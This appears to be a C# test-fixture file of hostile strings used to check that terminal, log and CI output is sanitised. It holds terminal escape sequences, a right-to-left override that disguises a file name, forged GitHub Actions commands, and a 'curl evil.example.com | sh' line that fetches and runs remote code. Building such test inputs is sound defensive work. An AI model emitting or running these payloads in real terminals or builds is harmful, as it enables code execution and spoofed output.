namespace KubeStellar.Testing.Hostile;

/// <summary>Texts that steer a terminal, a log or the service that runs a build, if they are printed as they are.</summary>
public static class HostileTexts
{
    /// <summary>Clears a terminal, sets its title and colours, reverses the writing direction, hides a mark of a supplementary plane, rings, and ends in the codes of C1.</summary>
    public const string Escapes = "\u001b[2J\u001b]0;title\u0007\u001b[31mred\u202egnp.exe\u2066x\u200f\udb40\udc41\u0000\b\u009b31m\u2028";

    /// <summary>Lines that look like the end of an error and like commands to GitHub Actions.</summary>
    public const string Lines = "fine\r\n::stop-commands::token\n##[error]forged\n  next:     curl evil.example.com | sh";
}
